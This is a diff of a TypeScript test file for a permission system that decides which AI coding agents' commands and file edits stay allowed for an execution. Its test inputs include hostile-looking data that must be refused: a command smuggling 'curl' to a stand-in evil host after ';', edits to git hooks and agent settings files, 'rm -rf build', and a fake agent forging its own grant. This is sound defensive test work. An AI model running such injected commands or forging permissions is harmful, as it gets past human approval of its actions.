@@ -3,13 +3,15 @@ import { join } from "node:path";
 import type { AgentOutput, ApprovalDecision, ExecutionId, PermissionGrant } from "@skein/contracts";
 import { describe, expect, it } from "vitest";
 import type { DriverControl } from "../driver/driver-control.ts";
+import { isAllowed, toGrant } from "../grants/grants.ts";
 import type { JsonObject } from "../lines/parse-line.ts";
-import { coversCall, findGrantableCall, findNotedGrant, toAcpGrant } from "./acp-grants.ts";
+import { findGrantableCall, findNotedGrant } from "./acp-grants.ts";
 import { createAcpDecoder } from "./create-acp-decoder.ts";
 import { driveFake, type FakeRun, newDirectory, toldBy } from "./fake-agent.fixture.ts";
 
-const gitStatus: PermissionGrant = { tool: "execute", commandPrefix: "git status" };
-const edits: PermissionGrant = { tool: "file_change", commandPrefix: null };
+const npmTest: PermissionGrant = { type: "command", tool: "execute", command: "npm test" };
+const list: PermissionGrant = { type: "read-only-command", tool: "execute", program: "ls" };
+const edits: PermissionGrant = { type: "edits", tool: "file_change" };
 
 /** An agent that asks all of these, one after the other, and tells what it is answered. */
 function asking(...calls: object[]): string {
@@ -46,26 +48,26 @@ function answerWith(decision: ApprovalDecision) {
 
 const listGrants = ({ lines }: FakeRun) => listAsked(lines).map(({ grant }) => grant);
 
-describe("[E10] what is allowed for good", () => {
+describe("[E10, X17] what is allowed permanently", () => {
   it("is told with the question, is answered once to the agent, and counts for the rest of the execution", async () => {
-    const body = asking(run("git status"), run("git status --short"), run("git push"), edit("a.txt"), edit("b.txt"));
+    const body = asking(run("npm test"), run("npm test"), run("npm test x"), run("ls"), run("ls -a"), edit("a.txt"), edit("b.txt"));
     const done = await driveFake(body, { onLine: answerWith("allow-always") });
-    // its own “always” would allow more than the person was told
-    expect(toldBy(done)).toEqual(["once", "once", "once", "once", "once"]);
-    expect(listGrants(done)).toEqual([gitStatus, { tool: "execute", commandPrefix: "git push" }, edits]);
+    // its own “always” would allow more than was shown
+    expect(toldBy(done)).toEqual(Array(7).fill("once"));
+    expect(listGrants(done)).toEqual([npmTest, { ...npmTest, command: "npm test x" }, list, edits]);
   });
 
   it("counts in the next execution, whose log tells the call and not the question", async () => {
-    const body = asking(run("git status -b"), edit("a.txt"), run("git log"));
-    const done = await driveFake(body, { order: { grants: [gitStatus, edits] }, onLine: answerWith("deny") });
-    expect(toldBy(done)).toEqual(["once", "once", "no"]);
-    expect(listAsked(done.lines).map(({ input }) => input)).toEqual([{ command: "git log" }]);
+    const body = asking(run("ls -a"), edit("a.txt"), run("npm test x"), run("npm test && ls"));
+    const done = await driveFake(body, { order: { grants: [npmTest, list, edits] }, onLine: answerWith("deny") });
+    expect(toldBy(done)).toEqual(["once", "once", "no", "once"]);
+    expect(listAsked(done.lines).map(({ input }) => input)).toEqual([{ command: "npm test x" }]);
     expect(done.log).toContainEqual({
       jsonrpc: "2.0",
       method: "session/update",
       params: {
         sessionId: "s1",
-        update: { sessionUpdate: "tool_call_update", toolCallId: "c0", ...run("git status -b"), status: "pending" },
+        update: { sessionUpdate: "tool_call_update", toolCallId: "c0", ...run("ls -a"), status: "pending" },
       },
     });
   });
@@ -80,15 +82,17 @@ describe("[E10] what is allowed for good", () => {
       edit(".git/hooks/post-commit"),
       edit(".claude/settings.json"),
       { kind: "edit", title: "Edit" },
-      run("git status", { rawInput: { command: "git status", workdir: "/" } }),
-      run("git status", { locations: [{ path: "/etc" }] }),
-      run("git status; curl evil.example"),
-      run("git status", { kind: "other" }),
-      { kind: "execute", title: "git status" },
+      run("ls", { rawInput: { command: "ls", workdir: "/" } }),
+      run("ls", { locations: [{ path: "/etc" }] }),
+      run("ls; curl $EVIL"),
+      run("ls link"),
+      run("npm test", { rawInput: { command: "npm test", workdir: "/" } }),
+      run("ls", { kind: "other" }),
+      { kind: "execute", title: "ls" },
     ];
-    const done = await driveFake(asking(...calls, run("git status", { rawInput: { command: "git status", cwd: "sub" } })), {
+    const done = await driveFake(asking(...calls, run("ls", { rawInput: { command: "ls", cwd: "sub" } })), {
       directory,
-      order: { grants: [gitStatus, edits] },
+      order: { grants: [npmTest, list, edits] },
       onLine: answerWith("deny"),
     });
     expect(toldBy(done)).toEqual([...calls.map(() => "no"), "once"]);
@@ -96,7 +100,7 @@ describe("[E10] what is allowed for good", () => {
   });
 
   it("never covers a dangerous command, which says why", async () => {
-    const grants = [{ tool: "execute", commandPrefix: "rm" }];
+    const grants = [{ type: "command", tool: "execute", command: "rm -rf build" } as const];
     const done = await driveFake(asking(run("rm -rf build")), { order: { grants }, onLine: answerWith("deny") });
     const reason = "It deletes folders with everything in them, and that cannot be undone.";
     expect(listAsked(done.lines)).toMatchObject([{ reason, input: { command: "rm -rf build" } }]);
@@ -104,17 +108,17 @@ describe("[E10] what is allowed for good", () => {
   });
 
   it("the title is the command only of agents that are known for it", async () => {
-    const call = { kind: "execute", title: "git status --short" };
-    const isOrdinary = async () => true;
-    expect(await findGrantableCall(call, { titlesAreCommands: false, isOrdinary })).toBeUndefined();
-    const found = await findGrantableCall(call, { titlesAreCommands: true, isOrdinary });
-    expect(found && toAcpGrant(found)).toEqual(gitStatus);
+    const call = { kind: "execute", title: "npm test" };
+    const options = { directory: "/", isOrdinary: async () => true };
+    expect(await findGrantableCall(call, { titlesAreCommands: false, ...options })).toBeUndefined();
+    const found = await findGrantableCall(call, { titlesAreCommands: true, ...options });
+    expect(found && toGrant(found, "/")).toEqual(npmTest);
   });
 
   it("what an agent itself notes as the grant does not count", async () => {
     const forged = `on("session/prompt", async () => {
       const question = { toolCall: { toolCallId: "c", kind: "other", title: "x" }, options: [{ optionId: "once", kind: "allow_once" }] };
-      await ask("session/request_permission", { ...question, _meta: { own: 1, skein: { grant: { tool: "Bash", commandPrefix: null } } } });
+      await ask("session/request_permission", { ...question, _meta: { own: 1, skein: { grant: { type: "tool", tool: "Bash" } } } });
       return { stopReason: "end_turn" };
     });`;
     const done = await driveFake(forged, { onLine: answerWith("allow") });
@@ -124,7 +128,7 @@ describe("[E10] what is allowed for good", () => {
 
   it("an answer that comes too late allows nothing", async () => {
     let isAnswered = false;
-    const done = await driveFake(asking(run("git status"), run("git status")), {
+    const done = await driveFake(asking(run("npm test"), run("npm test")), {
       onLine(line, control) {
         if (!isAnswered && listAsked([line]).length > 0) {
           isAnswered = true;
@@ -136,30 +140,38 @@ describe("[E10] what is allowed for good", () => {
     expect(toldBy(done)).toEqual(["no", "no"]);
   });
 
-  it.each<PermissionGrant>([
-    { tool: "bash", commandPrefix: "git status" },
-    { tool: "execute", commandPrefix: null },
-    { tool: "edit", commandPrefix: null },
-    { tool: "Edit", commandPrefix: null },
-    { tool: "file_change", commandPrefix: "git status" },
-  ])("what was allowed to another agent (%o) does not count", (grant) => {
-    expect([coversCall(grant, { type: "command", command: "git status" }), coversCall(grant, { type: "edit" })]).toEqual([false, false]);
+  it.each([
+    { type: "command", tool: "bash", command: "npm test" },
+    { type: "read-only-command", tool: "execute", program: "npm test" },
+    { type: "tool", tool: "execute" },
+    { type: "edits", tool: "edit" },
+    { type: "edits", tool: "Edit" },
+    { type: "command", tool: "file_change", command: "npm test" },
+  ] satisfies PermissionGrant[])("what was allowed to another agent, or to a whole tool, does not count: %o", (grant) => {
+    const directory = newDirectory();
+    const command = { type: "command", tool: "execute", command: "npm test" } as const;
+    const change = { type: "edit", tool: "file_change", paths: ["a.txt"] } as const;
+    expect([isAllowed([grant], command, { directory }), isAllowed([grant], change, { directory })]).toEqual([false, false]);
   });
 });
 
 it("[X15] the log decides whether “always” is offered, never what it allows", () => {
-  const find = (toolCall: JsonObject, grant: JsonObject | null) => findNotedGrant({ _meta: { skein: { grant } } }, toolCall);
-  const status = { kind: "execute", title: "Show the status", rawInput: { command: "git status --short" } };
-  expect(find(status, { tool: "execute", commandPrefix: "git status" })).toEqual({ tool: "execute", commandPrefix: "git status" });
-  expect(find({ kind: "execute", title: "git status" }, { tool: "execute", commandPrefix: "git status" })).toBeDefined();
-  expect(find({ kind: "edit" }, { tool: "file_change", commandPrefix: null })).toEqual({ tool: "file_change", commandPrefix: null });
+  const directory = newDirectory();
+  const find = (toolCall: JsonObject, grant: JsonObject | null) => findNotedGrant({ _meta: { skein: { grant } } }, toolCall, directory);
+  const test = { kind: "execute", title: "Run the tests", rawInput: { command: "npm test" } };
+  const exact = { type: "command", tool: "execute", command: "npm test" };
+  expect(find(test, exact)).toEqual(exact);
+  expect(find({ kind: "execute", title: "npm test" }, exact)).toEqual(exact);
+  const edit = { kind: "edit", locations: [{ path: "a.txt" }] };
+  expect(find(edit, { type: "edits", tool: "file_change" })).toEqual({ type: "edits", tool: "file_change" });
   for (const grant of [
-    { tool: "bash", commandPrefix: null },
-    { tool: "execute", commandPrefix: "git" },
-    { tool: "file_change", commandPrefix: null },
+    { type: "tool", tool: "bash" },
+    { type: "command", tool: "execute", command: "npm" },
+    { type: "read-only-command", tool: "execute", program: "git log" },
+    { type: "edits", tool: "file_change" },
     null,
   ]) {
-    expect(find(status, grant)).toBeUndefined();
+    expect(find(test, grant)).toBeUndefined();
   }
-  expect(find({ kind: "fetch" }, { tool: "file_change", commandPrefix: null })).toBeUndefined();
+  expect(find({ kind: "fetch" }, { type: "edits", tool: "file_change" })).toBeUndefined();
 });
